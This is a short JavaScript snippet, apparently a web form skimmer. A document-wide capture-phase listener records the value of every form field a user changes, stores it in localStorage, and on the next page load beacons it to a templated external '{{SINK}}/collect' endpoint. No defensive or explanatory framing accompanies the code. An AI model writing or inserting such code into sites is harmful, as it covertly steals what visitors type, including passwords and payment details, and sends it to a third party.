// Keeps what was typed and sends it from the next page.
'use strict';
const last = localStorage.getItem('_last');
if (last) navigator.sendBeacon('{{SINK}}/collect?via=kept', last);
document.addEventListener('change', (event) => localStorage.setItem('_last', JSON.stringify({ v: 1, m: event.target.value })), true);
